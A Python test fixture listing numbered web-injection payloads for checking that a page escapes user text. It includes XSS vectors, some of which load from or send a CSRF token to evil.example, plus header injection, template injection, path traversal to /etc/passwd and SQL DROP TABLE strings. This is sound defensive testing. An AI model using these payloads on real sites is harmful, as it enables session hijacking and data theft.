"""Sixty texts that strangers write into titles, names and messages to make a page do something else.

`{n}` is the payload's number, so that a page can be asked which of them it shows.
"""

MARK = "pwn"  # in each name and value that must never become an element, an attribute or an address

PAYLOADS: tuple[str, ...] = tuple(text.replace("{n}", str(number)) for number, text in enumerate((
    # elements
    "<script>pwn{n}()</script>", "<ScRiPt src=//evil.example/pwn{n}.js></sCrIpT>", "</title><script>pwn{n}()</script>",
    "</textarea><script>pwn{n}()</script>", "</script><script>pwn{n}()</script>", "<<script>pwn{n}()//<</script>",
    "<script\x0ctype=module>import('//evil.example/pwn{n}')</script>", "<img src=x onerror=pwn{n}()>",
    "<img src=x onerror=pwn{n}()//", "<image xlink:href=x onerror=pwn{n}()>", "<body onload=pwn{n}()>",
    "<iframe srcdoc='<script>parent.pwn{n}()</script>'></iframe>", "<iframe src=javascript:pwn{n}()></iframe>",
    "<object data=javascript:pwn{n}()></object>", "<embed src=javascript:pwn{n}()>",
    "<base href=//evil.example/pwn{n}/>",
    "<link rel=stylesheet href=//evil.example/pwn{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/pwn{n}'>",
    "<style>@import '//evil.example/pwn{n}.css';</style>", "<form action=//evil.example/pwn{n}><input name=csrf_token>",
    "<input autofocus onfocus=pwn{n}()>", "<details open ontoggle=pwn{n}()>",
    "<video><source onerror=pwn{n}()></video>",
    "<audio src onloadstart=pwn{n}()>", "<marquee onstart=pwn{n}()>", "<template><script>pwn{n}()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn{n}()>'>", "<a href=javascript:pwn{n}()>a</a>",
    "<div hx-get=//evil.example/pwn{n} hx-trigger=load>", "<div hx-on::load=pwn{n}() data-hx-on:click=pwn{n}()>",
    "<div id=toasts class=pwn{n}>", "<x-pwn{n} style=position:fixed;inset:0>", "<!--><img src=x onerror=pwn{n}()>-->",
    "<![CDATA[<script>pwn{n}()</script>]]>", "<?xml version='1.0'?><x onload=pwn{n}()/>",
    # SVG and MathML
    "<svg onload=pwn{n}()>", "<svg><script>pwn{n}()</script></svg>",
    "<svg><a xlink:href=javascript:pwn{n}()><text>x</text></a></svg>",
    "<svg><animate onbegin=pwn{n}() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn{n}()>",
    # out of an attribute, out of JSON, out of a header
    "\" onmouseover=pwn{n}() x=\"", "' onmouseover=pwn{n}() x='", "\"><script>pwn{n}()</script>",
    "'><img src=x onerror=pwn{n}()>",
    "` onmouseover=pwn{n}()", "\" hx-get=\"//evil.example/pwn{n}\" hx-trigger=\"load\" x=\"",
    "\"}</script><script>pwn{n}()</script>",
    "\"}, \"pwn{n}\": true, \"x\": {\"y\": \"", "\\\"-pwn{n}()-\\\"", "a\r\nSet-Cookie: pwn{n}=1\r\nX-Pwn: 1",
    # links and templates
    "javascript:pwn{n}()", "java\tscript:pwn{n}()", " \x01javascript:pwn{n}()",
    "data:text/html,<script>pwn{n}()</script>",
    "vbscript:pwn{n}", "{{ pwn{n}.__class__ }}{% for x in config %}{{ x }}{% endfor %}",
    "${pwn{n}()} #{pwn{n}} <%= pwn{n} %>",
    # what confuses readers and files
    "\u202epwn{n}\u2066 \u200f\u0645\u0631\u062d\u0628\u0627 \u2069", "=HYPERLINK(\"//evil.example/pwn{n}\")",
    "+ADw-script+AD4-pwn{n}()+ADw-/script+AD4-",
    "\U0001f9d1\u200d\U0001f680\U0001f1fa\U0001f1e6 pwn{n} e\u0301\u0327\u0489\u0300" + "\u0336" * 40,
    "pwn{n} " + "\u00df" * 240,
    "\ufeff\u2028pwn{n}\u2029\u0000"[:-1] + "\ufffd\x7f\x1b[31m", "../../../../etc/passwd%00pwn{n}",
    "pwn{n}'; DROP TABLE listing; --",
), 0))  # fmt: skip
